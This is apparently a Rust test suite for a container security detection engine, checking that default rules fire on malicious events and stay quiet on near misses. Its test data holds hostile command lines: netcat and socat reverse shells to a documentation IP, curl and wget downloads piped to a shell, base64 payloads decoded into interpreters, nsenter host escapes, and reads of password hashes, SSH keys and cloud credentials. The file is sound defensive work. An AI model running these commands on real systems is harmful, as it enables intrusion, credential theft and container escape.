//! Every rule of `rules/default.yaml`: events that must raise it, and close calls that must not.
//!
//! Events are built the way the sensor and enrichment build them (see `support/mod.rs`); the
//! end-to-end tests with real containers live with the agent.

mod support;

use std::sync::Arc;

use rampart_event::{AuthOutcome, Event, EventKind, PrivilegeInfo};
use rampart_rules::{Engine, Loader, Options, RuleMatching};
use support::{default_engine, fired, names, B, SEC};

/// `rule` fires for `events` (fed in order to a fresh engine).
fn fires(rule: &str, events: &[Event]) {
    let mut engine = default_engine();
    let d = fired(&mut engine, events);
    assert!(
        names(&d).iter().any(|n| n == rule),
        "expected {rule:?} to fire, got {:?}",
        names(&d)
    );
    let alert = &d
        .iter()
        .find(|d| d.alert.rule == rule)
        .expect("found")
        .alert;
    assert!(
        !alert.output.contains("%"),
        "unrendered output: {}",
        alert.output
    );
    assert!(!alert.events.is_empty(), "alert without evidence");
}

/// `rule` does not fire for `events`.
fn quiet(rule: &str, events: &[Event]) {
    let mut engine = default_engine();
    let d = fired(&mut engine, events);
    assert!(
        !names(&d).iter().any(|n| n == rule),
        "expected {rule:?} not to fire, got {:?}",
        d.iter().map(|d| &d.alert.output).collect::<Vec<_>>()
    );
}

fn count(rule: &str, events: &[Event]) -> usize {
    let mut engine = default_engine();
    names(&fired(&mut engine, events))
        .iter()
        .filter(|n| *n == rule)
        .count()
}

fn in_shell_of(b: B, parent: &str) -> B {
    let parent = parent.to_string();
    b.proc(move |p| p.ancestors = vec![support::ancestor(4000, &parent, &[&parent])])
}

#[test]
fn crypto_miner_launched() {
    let r = "Crypto miner launched";
    fires(
        r,
        &[B::exec("xmrig", &["xmrig", "-o", "pool.example:3333"]).build()],
    );
    fires(
        r,
        &[B::exec(
            "kworkerd",
            &[
                "kworkerd",
                "-o",
                "stratum+tcp://pool.example:3333",
                "-u",
                "x",
            ],
        )
        .build()],
    );
    fires(
        r,
        &[B::exec("x", &["./x"])
            .proc(|p| p.exe = "/tmp/.cache/xmrig".into())
            .build()],
    );
    quiet(
        r,
        &[B::exec("python3", &["python3", "app.py", "--workers", "4"]).build()],
    );
    quiet(
        r,
        &[B::exec("curl", &["curl", "https://stratum.example.com/api"]).build()],
    );
}

#[test]
fn crypto_miner_is_killed() {
    let mut engine = default_engine();
    let d = fired(&mut engine, &[B::exec("xmrig", &["xmrig"]).build()]);
    let miner = d
        .iter()
        .find(|d| d.alert.rule == "Crypto miner launched")
        .expect("fired");
    assert_eq!(miner.actions, [rampart_rules::Action::Kill]);
}

#[test]
fn dns_lookup_of_a_mining_pool() {
    let r = "DNS lookup of a mining pool";
    fires(r, &[B::dns("xmr-eu1.nanopool.org").build()]);
    fires(r, &[B::dns("gulf.moneroocean.stream").host().build()]);
    quiet(r, &[B::dns("nanopool.org.example.com").build()]);
    quiet(r, &[B::dns("api.github.com").build()]);
}

#[test]
fn mining_protocol_on_the_wire() {
    let r = "Mining protocol on the wire";
    let subscribe = r#"{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5.1"]}"#;
    fires(
        r,
        &[B::payload(
            subscribe,
            Some("mining.subscribe"),
            Some("cpuminer/2.5.1"),
            None,
            8443,
        )
        .build()],
    );
    fires(
        r,
        &[B::payload(
            r#"{"id":2,"method":"mining.authorize","params":["w.rig","x"]}"#,
            Some("mining.authorize"),
            None,
            Some("w.rig"),
            80,
        )
        .build()],
    );
    // XMRig's login, on any port, from a process with any name, on the host too.
    let login = r#"{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"44w","pass":"x","agent":"XMRig/6.21.0"}}"#;
    fires(
        r,
        &[
            B::payload(login, Some("login"), Some("XMRig/6.21.0"), Some("44w"), 443)
                .host()
                .build(),
        ],
    );
    let submit = r#"{"id":4,"jsonrpc":"2.0","method":"submit","params":{"id":"1","job_id":"7","nonce":"a1","result":"ff"}}"#;
    fires(
        r,
        &[B::payload(submit, Some("submit"), None, None, 3000).build()],
    );
    fires(
        r,
        &[B::payload(
            r#"{"id":2,"method":"keepalived","params":{"id":"1"}}"#,
            Some("keepalived"),
            None,
            None,
            3000,
        )
        .build()],
    );
    fires(
        r,
        &[B::payload(
            r#"{"id":1,"method":"eth_submitLogin","params":["0xabc"]}"#,
            Some("eth_submitLogin"),
            None,
            Some("0xabc"),
            4444,
        )
        .build()],
    );
    // Ordinary JSON-RPC that the kernel's filter lets through (a word in common with mining
    // methods) but that is no mining request.
    quiet(
        r,
        &[B::payload(
            r#"{"jsonrpc":"2.0","method":"login","params":[]}"#,
            Some("login"),
            None,
            None,
            9000,
        )
        .build()],
    );
    quiet(
        r,
        &[B::payload(
            r#"{"jsonrpc":"2.0","method":"submit","params":{"form":"contact"}}"#,
            Some("submit"),
            None,
            None,
            9000,
        )
        .build()],
    );
    quiet(
        r,
        &[B::payload(
            r#"{"jsonrpc":"2.0","method":"eth_blockNumber","params":[]}"#,
            Some("eth_blockNumber"),
            None,
            None,
            8545,
        )
        .build()],
    );
}

#[test]
fn packet_socket_opened_in_container() {
    let r = "Packet socket opened in container";
    fires(r, &[B::socket("AF_PACKET", "SOCK_RAW", 0x0300).build()]);
    fires(r, &[B::socket("AF_PACKET", "SOCK_DGRAM", 0x0300).build()]);
    quiet(
        r,
        &[B::socket("AF_PACKET", "SOCK_RAW", 0x0300).host().build()],
    );
    quiet(r, &[B::socket("AF_INET", "SOCK_RAW", 1).build()]);
}

#[test]
fn raw_ip_socket_opened_in_container() {
    let r = "Raw IP socket opened in container";
    fires(r, &[B::socket("AF_INET", "SOCK_RAW", 255).build()]);
    fires(r, &[B::socket("AF_INET6", "SOCK_RAW", 6).build()]);
    fires(r, &[B::socket("AF_INET", "SOCK_PACKET", 0x0300).build()]);
    // ping and traceroute
    quiet(r, &[B::socket("AF_INET", "SOCK_RAW", 1).build()]);
    quiet(r, &[B::socket("AF_INET6", "SOCK_RAW", 58).build()]);
    quiet(r, &[B::socket("AF_INET", "SOCK_RAW", 255).host().build()]);
}

#[test]
fn outbound_connection_to_a_mining_pool_port() {
    let r = "Outbound connection to a mining pool port";
    fires(r, &[B::connect("203.0.113.5", 3333).build()]);
    fires(
        r,
        &[B::connect("203.0.113.5", 443)
            .net(|n| n.remote_names = vec!["pool.supportxmr.com".into()])
            .build()],
    );
    quiet(r, &[B::connect("203.0.113.5", 443).build()]);
    quiet(r, &[B::connect("127.0.0.1", 3333).build()]);
    quiet(r, &[B::connect("203.0.113.5", 3333).host().build()]);
}

#[test]
fn dns_lookup_of_a_crypto_exchange_api() {
    let r = "DNS lookup of a crypto exchange API";
    fires(r, &[B::dns("api.binance.com").build()]);
    quiet(r, &[B::dns("binance.com").build()]);
    quiet(r, &[B::dns("api.binance.com").host().build()]);
}

#[test]
fn sustained_cpu_use_without_a_cpu_limit() {
    let r = "Sustained CPU use without a CPU limit";
    fires(r, &[B::stats(1900, None, 700_000).build()]);
    quiet(r, &[B::stats(1900, Some(2000), 700_000).build()]);
    quiet(r, &[B::stats(1900, None, 60_000).build()]);
    // At most once an hour per container.
    let events: Vec<Event> = (0..30)
        .map(|i| {
            B::stats(1900, None, 700_000 + i * 10_000)
                .at(i * 10)
                .build()
        })
        .collect();
    assert_eq!(count(r, &events), 1);
    let later = B::stats(1900, None, 5_000_000).at(3700).build();
    let mut all = events.clone();
    all.push(later);
    assert_eq!(count(r, &all), 2);
}

#[test]
fn reverse_shell() {
    let r = "Reverse shell";
    fires(
        r,
        &[B::exec("bash", &["bash", "-i"])
            .proc(|p| {
                p.stdin_type = Some("ipv4".into());
                p.stdout_type = Some("ipv4".into());
            })
            .build()],
    );
    fires(
        r,
        &[B::exec("python3", &["python3", "-c", "import pty"])
            .proc(|p| p.stdout_type = Some("ipv6".into()))
            .host()
            .build()],
    );
    quiet(
        r,
        &[B::exec("bash", &["bash", "-i"])
            .proc(|p| p.stdin_type = Some("tty".into()))
            .build()],
    );
    quiet(
        r,
        &[B::exec("nginx", &["nginx"])
            .proc(|p| p.stdin_type = Some("ipv4".into()))
            .build()],
    );
}

#[test]
fn netcat_or_socat_running_a_command() {
    let r = "Netcat or socat running a command";
    fires(
        r,
        &[B::exec("nc", &["nc", "-e", "/bin/sh", "203.0.113.9", "4444"]).build()],
    );
    fires(
        r,
        &[B::exec(
            "socat",
            &["socat", "TCP:203.0.113.9:4444", "EXEC:/bin/bash"],
        )
        .build()],
    );
    fires(
        r,
        &[
            B::exec("ncat", &["ncat", "--sh-exec", "sh", "203.0.113.9", "80"])
                .host()
                .build(),
        ],
    );
    quiet(r, &[B::exec("nc", &["nc", "-z", "db", "5432"]).build()]);
    quiet(
        r,
        &[B::exec("socat", &["socat", "TCP-LISTEN:80", "TCP:app:8080"]).build()],
    );
}

#[test]
fn netcat_or_socat_listener() {
    let r = "Netcat or socat listener";
    fires(r, &[B::exec("nc", &["nc", "-lvnp", "4444"]).build()]);
    fires(
        r,
        &[B::exec("socat", &["socat", "TCP-LISTEN:4444,fork", "-"]).build()],
    );
    fires(
        r,
        &[B::listen(4444).proc(|p| p.name = "ncat".into()).build()],
    );
    quiet(r, &[B::exec("nc", &["nc", "example.com", "80"]).build()]);
    quiet(r, &[B::listen(8080).build()]);
}

#[test]
fn interactive_terminal_in_container() {
    let r = "Interactive terminal in container";
    fires(
        r,
        &[in_shell_of(B::exec("bash", &["bash"]), "containerd-shim")
            .proc(|p| p.tty = 34816)
            .build()],
    );
    fires(r, &[B::docker_exec("bash", true).build()]);
    quiet(r, &[B::docker_exec("ls /", false).build()]);
    quiet(
        r,
        &[in_shell_of(B::exec("bash", &["bash"]), "containerd-shim").build()],
    );
    quiet(
        r,
        &[in_shell_of(B::exec("bash", &["bash"]), "containerd-shim")
            .proc(|p| p.tty = 34816)
            .host()
            .build()],
    );
}

#[test]
fn shell_spawned_in_container() {
    let r = "Shell spawned in container";
    fires(r, &[B::exec("sh", &["sh", "-c", "id"]).build()]);
    quiet(
        r,
        &[in_shell_of(B::exec("sh", &["sh", "-c", "id"]), "bash").build()],
    );
    quiet(
        r,
        &[in_shell_of(B::exec("sh", &["sh", "/entrypoint.sh"]), "containerd-shim").build()],
    );
    quiet(r, &[B::exec("sh", &["sh", "-c", "id"]).host().build()]);
    quiet(r, &[B::exec("id", &["id"]).build()]);
    // tar runs its compressor through `sh -c` (tar czf): a backup, not a web shell.
    quiet(
        r,
        &[in_shell_of(B::exec("sh", &["sh", "-c", "gzip"]), "tar").build()],
    );
}

#[test]
fn download_piped_to_a_shell() {
    let r = "Download piped to a shell";
    fires(
        r,
        &[B::exec(
            "sh",
            &["sh", "-c", "curl -fsSL http://203.0.113.9/i.sh | sh"],
        )
        .build()],
    );
    fires(
        r,
        &[
            B::exec("bash", &["bash", "-c", "wget -qO- http://x/y|bash -s"])
                .host()
                .build(),
        ],
    );
    quiet(
        r,
        &[B::exec("sh", &["sh", "-c", "curl -o /tmp/x http://x/y"]).build()],
    );
    quiet(
        r,
        &[B::exec("sh", &["sh", "-c", "curl http://x/y | grep shell"]).build()],
    );
}

#[test]
fn downloader_output_read_by_a_shell() {
    let r = "Downloader output read by a shell";
    let curl = || {
        B::exec("curl", &["curl", "-s", "http://203.0.113.9/x.sh"])
            .proc(|p| p.stdout_type = Some("pipe".into()))
    };
    let sh = || B::exec("sh", &["sh"]).proc(|p| p.stdin_type = Some("pipe".into()));
    fires(r, &[curl().at(0).build(), sh().at(1).build()]);
    fires(r, &[sh().at(0).build(), curl().at(0).build()]);
    quiet(r, &[curl().at(0).build(), sh().at(30).build()]);
    quiet(
        r,
        &[
            curl().at(0).build(),
            sh().proc(|p| p.ppid = 9999).at(1).build(),
        ],
    );
    quiet(
        r,
        &[
            curl()
                .proc(|p| p.stdout_type = Some("file".into()))
                .at(0)
                .build(),
            sh().at(1).build(),
        ],
    );
}

#[test]
fn fresh_download_made_executable() {
    let r = "Fresh download made executable";
    let download = || B::write("/tmp/.x/agent").proc(|p| p.name = "curl".into());
    let chmod = |path: &str, mode: u32| {
        B::file(EventKind::FileChmod, "fchmodat", path).file_info(move |f| f.mode = Some(mode))
    };
    fires(
        r,
        &[
            download().at(0).build(),
            chmod("/tmp/.x/agent", 0o755).at(5).build(),
        ],
    );
    quiet(
        r,
        &[
            download().at(0).build(),
            chmod("/tmp/.x/agent", 0o644).at(5).build(),
        ],
    );
    quiet(
        r,
        &[
            download().at(0).build(),
            chmod("/tmp/other", 0o755).at(5).build(),
        ],
    );
    quiet(
        r,
        &[
            chmod("/tmp/.x/agent", 0o755).at(0).build(),
            download().at(5).build(),
        ],
    );
    quiet(
        r,
        &[
            download().at(0).build(),
            chmod("/tmp/.x/agent", 0o755).at(600).build(),
        ],
    );
}

#[test]
fn drift_binary_not_in_image_executed() {
    let r = "Drift - binary not in image executed";
    let dropped = || B::exec("agent", &["/tmp/agent"]).proc(|p| p.exe_upper_layer = true);
    fires(r, &[dropped().build()]);
    quiet(r, &[dropped().host().build()]);
    quiet(r, &[B::exec("agent", &["/tmp/agent"]).build()]);
    // runc's own init, started by runc while the container is set up (seen under load with
    // its executable not yet resolved): not drift. A dropped file named `runc` run by a
    // shell still is.
    let runc_init = |parent: &str| {
        in_shell_of(
            B::exec("runc", &["runc", "init"]).proc(|p| p.exe_upper_layer = true),
            parent,
        )
        .build()
    };
    quiet(r, &[runc_init("runc")]);
    fires(r, &[runc_init("sh")]);
}

#[test]
fn fileless_execution() {
    let r = "Fileless execution";
    fires(
        r,
        &[B::exec("3", &["[kworker/0:1]"])
            .proc(|p| {
                p.exe_fileless = true;
                p.exe = "memfd:payload (deleted)".into();
            })
            .build()],
    );
    quiet(r, &[B::exec("ls", &["ls"]).build()]);
}

#[test]
fn package_manager_run_in_container() {
    let r = "Package manager run in container";
    fires(
        r,
        &[in_shell_of(
            B::exec("apt-get", &["apt-get", "install", "-y", "nmap"]),
            "bash",
        )
        .build()],
    );
    fires(
        r,
        &[in_shell_of(B::exec("apk", &["apk", "add", "socat"]), "sh").build()],
    );
    quiet(
        r,
        &[in_shell_of(B::exec("dpkg", &["dpkg", "-i", "x.deb"]), "apt-get").build()],
    );
    quiet(
        r,
        &[
            in_shell_of(B::exec("apt-get", &["apt-get", "install", "nmap"]), "bash")
                .host()
                .build(),
        ],
    );
    // A `RUN` step of a legacy `docker build` installs packages: that is where they belong.
    let in_container = |c: rampart_event::Container| {
        let mut ev = in_shell_of(
            B::exec("apt-get", &["apt-get", "install", "-y", "curl"]),
            "sh",
        )
        .build();
        ev.container = Some(std::sync::Arc::new(c));
        ev
    };
    let mut step = (*support::container("")).clone();
    step.image = format!("sha256:{}", "ab".repeat(32));
    step.build_step = true;
    quiet(r, &[in_container(step.clone())]);
    // The same container without dockerd's build-step record still alerts, whatever its name
    // and labels say.
    let mut dressed = step;
    dressed.build_step = false;
    dressed.name = "build-step".into();
    dressed
        .labels
        .insert("com.docker.build.step".into(), "true".into());
    fires(r, &[in_container(dressed)]);
}

#[test]
fn write_below_binary_or_config_directory_in_container() {
    let r = "Write below binary or config directory in container";
    let by = |b: B, name: &str| {
        let name = name.to_string();
        b.proc(move |p| p.name = name)
    };
    fires(r, &[by(B::write("/usr/bin/ls"), "cp").build()]);
    fires(r, &[by(B::write("/etc/ld.so.preload"), "sh").build()]);
    fires(
        r,
        &[by(
            B::file(EventKind::FileRename, "renameat2", "/tmp/x")
                .file_info(|f| f.new_path = Some("/usr/local/bin/kubectl".into())),
            "mv",
        )
        .build()],
    );
    fires(
        r,
        &[by(
            B::file(EventKind::FileUnlink, "unlinkat", "/etc/passwd"),
            "rm",
        )
        .build()],
    );
    quiet(r, &[by(B::write("/etc/resolv.conf"), "sh").build()]);
    // The entrypoint shell (parent: the runtime) and what it runs write configuration at
    // start; a shell the application started does not get that pass.
    let chain = |b: B, names: &[&str]| {
        let names: Vec<String> = names.iter().map(|n| n.to_string()).collect();
        b.proc(move |p| {
            p.ancestors = names
                .iter()
                .enumerate()
                .map(|(i, n)| support::ancestor(4000 + i as u32, n, &[n]))
                .collect()
        })
    };
    quiet(
        r,
        &[chain(
            by(B::write("/etc/nginx/conf.d/default.conf"), "sh"),
            &["containerd-shim"],
        )
        .build()],
    );
    quiet(
        r,
        &[chain(
            by(B::write("/etc/nginx/conf.d/default.conf"), "envsubst"),
            &["sh", "containerd-shim"],
        )
        .build()],
    );
    fires(
        r,
        &[chain(
            by(B::write("/etc/crontab"), "sh"),
            &["node", "containerd-shim"],
        )
        .build()],
    );
    fires(
        r,
        &[chain(by(B::write("/usr/bin/ls"), "sh"), &["containerd-shim"]).build()],
    );
    quiet(r, &[by(B::write("/tmp/build/out"), "cp").build()]);
    quiet(r, &[by(B::write("/usr/lib/x.so"), "apk").build()]);
    quiet(r, &[by(B::read("/usr/bin/ls"), "cp").build()]);
    quiet(r, &[by(B::write("/usr/bin/ls"), "cp").host().build()]);
}

#[test]
fn password_hashes_read() {
    let r = "Password hashes read";
    let by = |name: &str| {
        let name = name.to_string();
        B::read("/etc/shadow").proc(move |p| p.name = name)
    };
    fires(r, &[by("cat").build()]);
    fires(r, &[by("python3").host().build()]);
    quiet(r, &[by("sshd").build()]);
    quiet(
        r,
        &[B::read("/etc/passwd")
            .proc(|p| p.name = "cat".into())
            .build()],
    );
}

#[test]
fn ssh_private_key_read() {
    let r = "SSH private key read";
    let read = |path: &str, name: &str| {
        let name = name.to_string();
        B::read(path).proc(move |p| p.name = name)
    };
    fires(r, &[read("/root/.ssh/id_rsa", "cat").build()]);
    fires(
        r,
        &[read("/home/deploy/.ssh/id_ed25519", "tar").host().build()],
    );
    fires(r, &[read("/etc/ssh/ssh_host_ed25519_key", "cat").build()]);
    quiet(r, &[read("/root/.ssh/id_rsa.pub", "cat").build()]);
    quiet(r, &[read("/root/.ssh/id_rsa", "ssh").build()]);
    quiet(r, &[read("/root/.ssh/known_hosts", "cat").build()]);
}

#[test]
fn cloud_credentials_read() {
    let r = "Cloud credentials read";
    let read = |path: &str, name: &str| {
        let name = name.to_string();
        B::read(path).proc(move |p| p.name = name)
    };
    fires(r, &[read("/root/.aws/credentials", "cat").build()]);
    fires(r, &[read("/home/app/.docker/config.json", "curl").build()]);
    fires(
        r,
        &[read("/var/run/secrets/kubernetes.io/serviceaccount/token", "sh").build()],
    );
    quiet(r, &[read("/root/.aws/credentials", "aws").build()]);
    quiet(r, &[read("/root/.aws/config.bak", "cat").build()]);
}

#[test]
fn setuid_binary_executed_by_unprivileged_user() {
    let r = "Setuid binary executed by unprivileged user";
    let as_user = |b: B, euid: u32| {
        b.proc(move |p| {
            p.uid = 1000;
            p.euid = euid;
            p.user = Some("app".into());
        })
    };
    fires(
        r,
        &[as_user(B::exec("rootsh", &["/tmp/rootsh"]), 0).build()],
    );
    quiet(r, &[as_user(B::exec("sudo", &["sudo", "-l"]), 0).build()]);
    quiet(r, &[as_user(B::exec("ls", &["ls"]), 1000).build()]);
    quiet(r, &[B::exec("rootsh", &["/tmp/rootsh"]).build()]);
}

#[test]
fn non_root_process_became_root() {
    let r = "Non-root process became root";
    let setuid0 = |euid: u32, res: i64| {
        B::privilege(
            EventKind::PrivSetuid,
            "setuid",
            PrivilegeInfo {
                uid: Some(0),
                ..PrivilegeInfo::default()
            },
        )
        .proc(move |p| {
            p.uid = 1000;
            p.euid = euid;
        })
        .result(res)
    };
    fires(r, &[setuid0(1000, 0).build()]);
    quiet(r, &[setuid0(0, 0).build()]);
    quiet(r, &[setuid0(1000, -1).build()]);
}

#[test]
fn dangerous_capability_raised_in_container() {
    let r = "Dangerous capability raised in container";
    let capset = |name: &str, caps: u64| {
        let name = name.to_string();
        B::privilege(
            EventKind::PrivCapset,
            "capset",
            PrivilegeInfo {
                cap_effective: Some(caps),
                cap_permitted: Some(caps),
                ..PrivilegeInfo::default()
            },
        )
        .proc(move |p| {
            p.name = name;
            p.cap_effective = 1 << 5;
        })
    };
    fires(r, &[capset("exploit", 1 << 21).build()]);
    quiet(r, &[capset("runc:[2:INIT]", 1 << 21).build()]);
    quiet(r, &[capset("exploit", 1).build()]);
    quiet(r, &[capset("exploit", 1 << 21).host().build()]);
}

#[test]
fn host_device_or_cgroup_filesystem_mounted_in_container() {
    let r = "Host device or cgroup filesystem mounted in container";
    let mount = |source: &str, fs: &str| {
        let (source, fs) = (source.to_string(), fs.to_string());
        B::file(EventKind::FileMount, "mount", "/mnt").file_info(move |f| {
            f.source = Some(source);
            f.new_path = Some("/mnt".into());
            f.fs_type = Some(fs);
        })
    };
    fires(r, &[mount("/dev/sda1", "ext4").build()]);
    fires(r, &[mount("cgroup", "cgroup").build()]);
    quiet(r, &[mount("tmpfs", "tmpfs").build()]);
    quiet(r, &[mount("/dev/sda1", "ext4").host().build()]);
}

#[test]
fn namespace_change_from_container() {
    let r = "Namespace change from container";
    let setns = |name: &str| {
        let name = name.to_string();
        B::privilege(
            EventKind::PrivSetns,
            "setns",
            PrivilegeInfo {
                namespaces: vec!["mnt".into()],
                flags: Some(0x20000),
                ..PrivilegeInfo::default()
            },
        )
        .proc(move |p| p.name = name)
    };
    fires(r, &[setns("exploit").build()]);
    fires(
        r,
        &[B::exec("nsenter", &["nsenter", "-t", "1", "-m", "sh"]).build()],
    );
    quiet(r, &[setns("runc:[2:INIT]").build()]);
    quiet(r, &[setns("exploit").host().build()]);
}

#[test]
fn nsenter_into_the_hosts_namespaces() {
    let r = "nsenter into the host's namespaces";
    fires(
        r,
        &[B::exec(
            "nsenter",
            &["nsenter", "-t", "1", "-m", "-u", "-n", "-i", "sh"],
        )
        .build()],
    );
    fires(
        r,
        &[B::exec("nsenter", &["nsenter", "--target=1", "--mount"])
            .host()
            .build()],
    );
    quiet(
        r,
        &[B::exec("nsenter", &["nsenter", "-t", "4242", "-n", "ip", "a"]).build()],
    );
}

#[test]
fn write_to_release_agent_or_kernel_helper() {
    let r = "Write to release_agent or kernel helper";
    let by = |b: B, name: &str| {
        let name = name.to_string();
        b.proc(move |p| p.name = name)
    };
    fires(
        r,
        &[by(B::write("/sys/fs/cgroup/rdma/release_agent"), "sh").build()],
    );
    fires(
        r,
        &[by(B::write("/proc/sys/kernel/core_pattern"), "bash")
            .host()
            .build()],
    );
    quiet(
        r,
        &[
            by(B::write("/proc/sys/kernel/core_pattern"), "systemd-sysctl")
                .host()
                .build(),
        ],
    );
    quiet(
        r,
        &[by(B::read("/sys/fs/cgroup/rdma/release_agent"), "sh").build()],
    );
}

#[test]
fn container_runtime_socket_used_from_container() {
    let r = "Container runtime socket used from container";
    fires(r, &[B::connect_unix("/var/run/docker.sock").build()]);
    fires(r, &[B::read("/run/containerd/containerd.sock").build()]);
    quiet(r, &[B::connect_unix("/tmp/app.sock").build()]);
    quiet(r, &[B::connect_unix("/var/run/docker.sock").host().build()]);
}

#[test]
fn ptrace_of_another_process() {
    let r = "Ptrace of another process";
    let ptrace = |request: &str| {
        B::privilege(
            EventKind::PrivPtrace,
            "ptrace",
            PrivilegeInfo {
                target_pid: Some(1),
                target_name: Some("sshd".into()),
                request: Some(16),
                request_name: Some(request.into()),
                ..PrivilegeInfo::default()
            },
        )
    };
    fires(r, &[ptrace("PTRACE_ATTACH").build()]);
    fires(r, &[ptrace("PTRACE_POKETEXT").host().build()]);
    quiet(r, &[ptrace("PTRACE_TRACEME").build()]);
}

#[test]
fn kernel_module_loaded_from_container() {
    let r = "Kernel module loaded from container";
    let load = || {
        B::privilege(
            EventKind::PrivModuleLoad,
            "finit_module",
            PrivilegeInfo {
                name: Some("/tmp/rk.ko".into()),
                ..PrivilegeInfo::default()
            },
        )
    };
    fires(r, &[load().build()]);
    quiet(r, &[load().host().build()]);
}

#[test]
fn bpf_program_loaded_from_container() {
    let r = "BPF program loaded from container";
    let bpf = |cmd: &str| {
        B::privilege(
            EventKind::PrivBpf,
            "bpf",
            PrivilegeInfo {
                request: Some(5),
                request_name: Some(cmd.into()),
                ..PrivilegeInfo::default()
            },
        )
    };
    fires(r, &[bpf("BPF_PROG_LOAD").build()]);
    quiet(r, &[bpf("BPF_MAP_LOOKUP_ELEM").build()]);
    quiet(r, &[bpf("BPF_PROG_LOAD").host().build()]);
}

#[test]
fn io_uring_ring_created_in_container() {
    let r = "io_uring ring created in container";
    let ring = |res: i64| {
        B::privilege(
            EventKind::PrivIoUring,
            "io_uring_setup",
            PrivilegeInfo {
                request: Some(8),
                flags: Some(2),
                ..PrivilegeInfo::default()
            },
        )
        .result(res)
    };
    fires(r, &[ring(3).build()]);
    // Refused (a seccomp profile that blocks io_uring answers EPERM): no ring, nothing hidden.
    quiet(r, &[ring(-1).build()]);
    quiet(r, &[ring(3).host().build()]);
}

#[test]
fn shell_history_or_log_file_cleared() {
    let r = "Shell history or log file cleared";
    let by = |b: B, name: &str| {
        let name = name.to_string();
        b.proc(move |p| p.name = name)
    };
    fires(r, &[by(B::write("/root/.bash_history"), "bash").build()]);
    fires(
        r,
        &[by(
            B::file(EventKind::FileUnlink, "unlinkat", "/var/log/auth.log"),
            "rm",
        )
        .host()
        .build()],
    );
    fires(
        r,
        &[by(
            B::file(EventKind::FileUnlink, "unlinkat", "/home/a/.zsh_history"),
            "rm",
        )
        .build()],
    );
    fires(
        r,
        &[B::exec("shred", &["shred", "-u", "/var/log/syslog"]).build()],
    );
    quiet(
        r,
        &[by(B::write("/var/log/nginx/access.log"), "logrotate").build()],
    );
    quiet(r, &[by(B::open("/var/log/app.log", 0o2101), "app").build()]);
    quiet(
        r,
        &[by(
            B::file(EventKind::FileUnlink, "unlinkat", "/tmp/x.log"),
            "rm",
        )
        .build()],
    );
    // Log rotation: renamed within /var/log, compressed, rotated copies aged out.
    let rename = |from: &str, to: &str, who: &str| {
        let to = to.to_string();
        by(
            B::file(EventKind::FileRename, "renameat2", from)
                .file_info(move |f| f.new_path = Some(to.clone())),
            who,
        )
        .build()
    };
    quiet(
        r,
        &[rename(
            "/var/log/app/app.log",
            "/var/log/app/app.log.1",
            "sh",
        )],
    );
    quiet(
        r,
        &[rename(
            "/var/log/app/app.log",
            "/var/log/app/app.log-20261206",
            "mv",
        )],
    );
    fires(r, &[rename("/var/log/auth.log", "/tmp/.x", "mv")]);
    fires(
        r,
        &[rename("/root/.bash_history", "/root/.bash_history.1", "mv")],
    );
    let unlink =
        |path: &str, who: &str| by(B::file(EventKind::FileUnlink, "unlinkat", path), who).build();
    quiet(r, &[unlink("/var/log/app/app.log.2", "gzip")]);
    quiet(r, &[unlink("/var/log/app/app.log.3.gz", "sh")]);
    quiet(r, &[unlink("/var/log/app/app.log-20261201.gz", "find")]);
    fires(r, &[unlink("/var/log/wtmp", "rm")]);
}

#[test]
fn program_run_from_a_temporary_or_shared_memory_directory() {
    let r = "Program run from a temporary or shared-memory directory";
    let at = |path: &str| {
        let path = path.to_string();
        B::exec("x", &["x"]).proc(move |p| p.exe = path.clone())
    };
    fires(r, &[at("/tmp/x").build()]);
    fires(r, &[at("/dev/shm/.k").build()]);
    fires(r, &[at("/var/tmp/a/b").host().build()]);
    quiet(r, &[at("/usr/bin/x").build()]);
    quiet(r, &[at("/tmpfoo/x").build()]);
    quiet(r, &[in_shell_of(at("/tmp/conftest"), "make").build()]);
}

#[test]
fn encoded_payload_decoded_into_an_interpreter() {
    let r = "Encoded payload decoded into an interpreter";
    fires(
        r,
        &[B::exec("sh", &["sh", "-c", "echo aWQK | base64 -d | sh"]).build()],
    );
    fires(
        r,
        &[B::exec(
            "bash",
            &["bash", "-c", "echo cHJpbnQoMSkK|base64 --decode|python3"],
        )
        .host()
        .build()],
    );
    quiet(
        r,
        &[B::exec("sh", &["sh", "-c", "echo aWQK | base64 -d > /tmp/out"]).build()],
    );
    quiet(
        r,
        &[B::exec("sh", &["sh", "-c", "base64 file | sh"]).build()],
    );
    quiet(r, &[B::exec("base64", &["base64", "-d", "x"]).build()]);
}

#[test]
fn setuid_or_setgid_bit_set_on_a_file() {
    let r = "Setuid or setgid bit set on a file";
    let chmod = |mode: u32, who: &str| {
        let who = who.to_string();
        B::file(EventKind::FileChmod, "fchmodat", "/tmp/sh")
            .file_info(move |f| f.mode = Some(mode))
            .proc(move |p| p.name = who.clone())
            .build()
    };
    fires(r, &[chmod(0o4755, "chmod")]);
    fires(r, &[chmod(0o2755, "chmod")]);
    quiet(r, &[chmod(0o755, "chmod")]);
    quiet(r, &[chmod(0o4755, "dpkg")]);
}

#[test]
fn rotated_log_file_deleted() {
    let r = "Rotated log file deleted";
    let unlink = |path: &str, who: &str| {
        let who = who.to_string();
        B::file(EventKind::FileUnlink, "unlinkat", path)
            .proc(move |p| p.name = who)
            .build()
    };
    fires(r, &[unlink("/var/log/auth.log.1", "rm")]);
    fires(r, &[unlink("/var/log/app/app.log-20261201.gz", "find")]);
    quiet(r, &[unlink("/var/log/app/app.log.2", "gzip")]);
    quiet(r, &[unlink("/var/log/app/app.log.2.gz", "logrotate")]);
    quiet(r, &[unlink("/var/log/auth.log", "rm")]);
    quiet(r, &[unlink("/tmp/app.log.1", "rm")]);
}

#[test]
fn ssh_brute_force() {
    let r = "SSH brute force";
    let fail = |i: u64, ip: &str| B::auth(AuthOutcome::Failure, ip).host().at(i).build();
    let ten: Vec<Event> = (0..10).map(|i| fail(i * 3, "198.51.100.7")).collect();
    fires(r, &ten);
    assert_eq!(count(r, &ten), 1);
    quiet(r, &ten[..9]);
    let slow: Vec<Event> = (0..10).map(|i| fail(i * 60, "198.51.100.7")).collect();
    quiet(r, &slow);
    let spread: Vec<Event> = (0..10)
        .map(|i| fail(i, &format!("198.51.100.{i}")))
        .collect();
    quiet(r, &spread);
    // The alert names the source and the count.
    let mut engine = default_engine();
    let d = fired(&mut engine, &ten);
    let a = &d.iter().find(|d| d.alert.rule == r).expect("fired").alert;
    assert!(
        a.output.contains("10 failed logins from 198.51.100.7"),
        "{}",
        a.output
    );
    assert_eq!(a.source, "correlation");
    assert_eq!(a.events.len(), 8, "the most recent evidence is kept");
}
